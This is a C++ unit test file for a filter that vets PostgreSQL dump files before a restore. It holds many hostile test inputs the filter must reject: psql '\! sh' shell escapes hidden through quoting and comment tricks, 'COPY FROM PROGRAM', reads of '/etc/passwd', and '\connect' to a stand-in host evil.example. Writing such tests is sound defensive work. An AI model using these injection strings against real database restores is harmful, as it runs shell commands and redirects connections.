#include "tools/restore/psql_filter.h"

#include "absl/strings/match.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/str_replace.h"
#include "tests/testing.h"

namespace ingot::tools {
namespace {

using testing::ElementsAre;
using testing::HasSubstr;
using testing::IsEmpty;

struct Filtered {
  absl::Status status;
  std::string out;
  std::set<std::string> roles;
};

Filtered Filter(const std::string& dump, bool no_owner = false, size_t cut = std::string::npos) {
  PsqlFilter filter({"alfresco", no_owner});
  Filtered result;
  const absl::Span<const char> bytes(dump);
  const size_t first = std::min(cut, dump.size());
  result.status = filter.Feed(bytes.subspan(0, first), &result.out);
  if (result.status.ok()) result.status = filter.Feed(bytes.subspan(first), &result.out);
  if (result.status.ok()) result.status = filter.Finish(&result.out);
  result.roles = filter.roles();
  return result;
}

std::string Passed(const std::string& dump) {
  const Filtered result = Filter(dump);
  EXPECT_OK(result.status);
  return result.out;
}

constexpr char kDump[] =
    "--\n-- a comment with \\! and ' and ;\n--\n\n"
    "\\restrict abc123\n\n"
    "SET standard_conforming_strings = on;\n"
    "/* outer /* inner \\! */ ' */\n"
    "CREATE SCHEMA public;\n"
    "CREATE SCHEMA \"Odd\" AUTHORIZATION x;\n"
    "CREATE TABLE t (a text DEFAULT 'C:\\'::text, \"q\\\" text DEFAULT E'it\\'s; \\\\');\n"
    "CREATE FUNCTION f() RETURNS int AS $_$ '\\! $a$ $1; $_$ LANGUAGE sql;\n"
    "CREATE OR REPLACE FUNCTION g(i int) RETURNS int BEGIN ATOMIC SELECT CASE WHEN 1 = $1 THEN 2 "
    "END; SELECT 3; END;\n"
    "CREATE RULE r AS ON INSERT TO t DO (SELECT 1; SELECT 2);\n"
    "COPY public.t (a, \"q\") FROM stdin;\n"
    "\\! data\t\\N\n\\.x\n\\connect\n'\"$$;\n\\.\n"
    "BEGIN;\nSELECT lo_create(1);\nCOMMIT;\n"
    "\\connect alfresco\n\\connect -reuse-previous=on \"dbname='alfresco'\"\n"
    "ALTER TABLE t OWNER TO \"Owner \"\"X\"\"\";\n"
    "GRANT ALL ON TABLE t TO reader, PUBLIC, \"W\" WITH GRANT OPTION GRANTED BY boss;\n"
    "REVOKE ALL ON t FROM old CASCADE;\n"
    "ALTER DEFAULT PRIVILEGES FOR ROLE maker IN SCHEMA s GRANT SELECT ON TABLES TO taker;\n"
    "SET SESSION AUTHORIZATION 'somebody';\n"
    "ALTER TABLE t RENAME TO u;\n"
    "\\unrestrict abc123\n"
    "-- the end without a line feed";

TEST(PsqlFilterTest, RefusesWhatEndsTheTransaction) {
  for (const char* statement :
       {"END", "ROLLBACK", "ABORT", "COMMIT WORK", "COMMIT AND CHAIN", "COMMIT PREPARED 'x'",
        "START TRANSACTION", "BEGIN ISOLATION LEVEL SERIALIZABLE", "SAVEPOINT s", "RELEASE s",
        "ROLLBACK TO s", "PREPARE TRANSACTION 'x'", "/* x */ end",
        "CREATE FUNCTION begin() RETURNS int LANGUAGE sql AS 'SELECT 1'; END",
        "CREATE FUNCTION f() RETURNS int BEGIN ATOMIC SELECT 1 AS case; END; END",
        "CREATE FUNCTION f() RETURNS int BEGIN ATOMIC SELECT 1 AS case; SELECT 2; COMMIT; END; "
        "END"}) {
    const absl::Status status = Filter(absl::StrCat("SELECT 1;\n", statement, ";\n")).status;
    EXPECT_TRUE(absl::IsDataLoss(status)) << statement << ": " << status;
    EXPECT_THAT(std::string(status.message()), HasSubstr("line 2 ")) << statement;
  }
  constexpr char kBody[] =
      "CREATE PROCEDURE p() BEGIN ATOMIC SELECT CASE WHEN true THEN 1 END; END;\n"
      "CREATE TABLE \"end\" (a int DEFAULT CASE WHEN true THEN 1 END);\n";
  EXPECT_EQ(Passed(kBody), kBody);
}

TEST(PsqlFilterTest, RefusesStringsThatDoNotConform) {
  for (const char* statement :
       {"SET standard_conforming_strings = off", "set Standard_Conforming_Strings to 'off'",
        "SET SESSION standard_conforming_strings = off", "SET LOCAL standard_conforming_strings=0",
        "SET \"standard_conforming_strings\" = off", "RESET standard_conforming_strings",
        "SELECT set_config('standard_conforming_strings', 'off', false)",
        "WITH x AS (SELECT set_config('standard_conforming_strings', 'off', false)) TABLE x",
        "VALUES (pg_catalog.SET_CONFIG('standard_conforming_strings', 'off', false))",
        "INSERT INTO t SELECT set_config('standard_conforming_strings', 'off', false)",
        "TABLE t; DELETE FROM t WHERE set_config('standard_conforming_strings', 'off', false) = ''",
        "SELECT pg_catalog.set_config('standard_conforming' || '_strings', 'off', false)"}) {
    const absl::Status status = Filter(absl::StrCat("SELECT 1;\n", statement, ";\n")).status;
    EXPECT_TRUE(absl::IsDataLoss(status)) << statement << ": " << status;
    EXPECT_THAT(std::string(status.message()), HasSubstr("standard_conforming_strings=on"));
  }
  constexpr char kHead[] =
      "SET standard_conforming_strings = on;\nSELECT pg_catalog.set_config('search_path', '', "
      "false);\nSET default_tablespace = '';\nINSERT INTO t VALUES ('set_config');\n"
      "CREATE VIEW v AS SELECT set_config('a.b', 'c', true);\n";
  EXPECT_EQ(Passed(kHead), kHead);
}

TEST(PsqlFilterTest, LetsADumpThroughButForAFewLines) {
  std::string expected = kDump;
  for (const char* line :
       {"\\restrict abc123", "\\unrestrict abc123", "BEGIN;", "COMMIT;", "\\connect alfresco",
        "\\connect -reuse-previous=on \"dbname='alfresco'\""}) {
    expected = absl::StrReplaceAll(expected, {{absl::StrCat("\n", line, "\n"), "\n\n"}});
  }
  expected = absl::StrReplaceAll(expected,
                                 {{"CREATE SCHEMA public", "CREATE SCHEMA IF NOT EXISTS public"}});
  EXPECT_EQ(Passed(kDump), expected);
}

TEST(PsqlFilterTest, WhereverTheDumpIsCut) {
  const Filtered whole = Filter(kDump);
  for (size_t cut = 0; cut < sizeof(kDump); ++cut) {
    const Filtered result = Filter(kDump, false, cut);
    EXPECT_OK(result.status);
    EXPECT_EQ(result.out, whole.out) << cut;
    EXPECT_EQ(result.roles, whole.roles) << cut;
  }
}

TEST(PsqlFilterTest, NamesRoles) {
  EXPECT_THAT(Filter(kDump).roles,
              ElementsAre("Owner \"X\"", "W", "boss", "maker", "old", "reader", "taker"));
}

TEST(PsqlFilterTest, LeavesOwnersOut) {
  const Filtered result = Filter(kDump, /*no_owner=*/true);
  ASSERT_OK(result.status);
  EXPECT_THAT(result.roles, IsEmpty());
  for (const char* word : {"OWNER TO", "GRANT ALL", "REVOKE", "PRIVILEGES", "SESSION AUTH"}) {
    EXPECT_FALSE(absl::StrContains(result.out, word)) << word;
  }
  EXPECT_THAT(result.out, HasSubstr("RENAME TO u;"));
  const std::string all = kDump;  // psql's line numbers stay right
  EXPECT_EQ(std::count(result.out.begin(), result.out.end(), '\n'),
            std::count(all.begin(), all.end(), '\n'));
}

TEST(PsqlFilterTest, RefusesWhatWouldRunSomething) {
  const std::string dumps[] = {
      "\\! sh\n",
      "  \\! sh\n",
      "\\! sh",
      "\\copy t from program 'sh'\n",
      "\\connect other\n",
      "\\connect alfresco postgres evil.example\n",
      "\\connect \"host=evil.example dbname=alfresco\"\n",
      "\\.\\! sh\n",
      "SELECT 1 \\! sh\n",
      "SELECT 1; \\! sh\n",
      "/* */ SELECT \\gexec\n",
      "SELECT 'a''' \\! sh\n",
      "SELECT \"a\"\"\" \\! sh\n",
      "SELECT $a$ $b$ $a$ \\! sh\n",
      "SELECT $1$ \\! sh $1$;\n",
      "SELECT a$b$ \\! sh $b$;\n",
      "-- c\r\\! sh\n",
      "/*/ */ \\! sh\n",
      "/* /* */ */ \\! sh /* */\n",
      "SELECT e'\\'' \\! sh\n",
      "SELECT 1e'\\'; \\! sh ';\n",
      "SELECT E'a'\n'b\\'; \\! sh ';\n",
      "SELECT E'a' -- c\n'b\\'; \\! sh ';\n",
      "COPY t FROM stdin;\n1\n\\.\n\\! sh\n",
      "COPY t FROM stdin;\n1\n\\.\r\n\\! sh\n",
      "COPY t FROM stdin; \\! sh\n1\n\\.\n",
      "copy t from program 'sh';\n",
      "COPY t FROM '/etc/passwd';\n",
      "COPY t TO PROGRAM 'cat > from stdin';\n",
      "COPY t FROM PROGRAM 'sh' WITH (DELIMITER ' ') -- from stdin;\n;\n",
      "/* COPY */ COPY t FROM stdin WITH (FORMAT csv);\n1\n",
      "CREATE FUNCTION f() RETURNS int BEGIN ATOMIC SELECT 1; COPY t FROM stdin;\n\\! sh\n",
      std::string("SELECT 'a\0'; \\! sh\n", 19),
      // No COPY to the server: its rows would be psql's commands.
      "1 COPY t FROM stdin;\n\\! sh\n\\.\n",
      "1x\nCOPY t FROM stdin;\n\\! sh\n\\.\n",
      "'' COPY t FROM stdin;\n\\! sh\n\\.\n",
      "\"x\" COPY t FROM stdin;\n\\! sh\n\\.\n",
      "$$$$ COPY t FROM stdin;\n\\! sh\n\\.\n",
      "- COPY t FROM stdin;\n\\! sh\n\\.\n",
      "/ COPY t FROM stdin;\n\\! sh\n\\.\n",
      "() COPY t FROM stdin;\n\\! sh\n\\.\n",
  };
  for (const std::string& dump : dumps) {
    for (size_t cut = 0; cut <= dump.size(); ++cut) {
      EXPECT_TRUE(absl::IsDataLoss(Filter(dump, false, cut).status)) << dump << " at " << cut;
    }
  }
}

TEST(PsqlFilterTest, SaysWhichLine) {
  const absl::Status status =
      Filter("SELECT 1;\nCOPY t FROM stdin;\n1\n2\n\\.\n-- c\n\\! sh\n").status;
  EXPECT_THAT(std::string(status.message()), HasSubstr("line 7 of the dump"));
}

TEST(PsqlFilterTest, ADumpThatEndsInTheMiddleIsNone) {
  for (const char* dump : {"SELECT 1", "SELECT 'a;", "SELECT E'a", "SELECT $a$;", "/* ;",
                           "COPY t FROM stdin;\n1\n", "COPY t FROM stdin;", "SELECT \"a;"}) {
    EXPECT_TRUE(absl::IsDataLoss(Filter(dump).status)) << dump;
  }
}

TEST(PsqlFilterTest, LongStatementsNeedNoMemory) {
  const std::string value(3 << 20, 'x');
  const std::string dump = absl::StrCat("INSERT INTO t VALUES ('", value, "');\nSELECT 1;\n");
  EXPECT_EQ(Passed(dump), dump);
  EXPECT_TRUE(absl::IsDataLoss(Filter(absl::StrCat("COPY ", value, " FROM stdin;\n")).status));
}

}  // namespace
}  // namespace ingot::tools
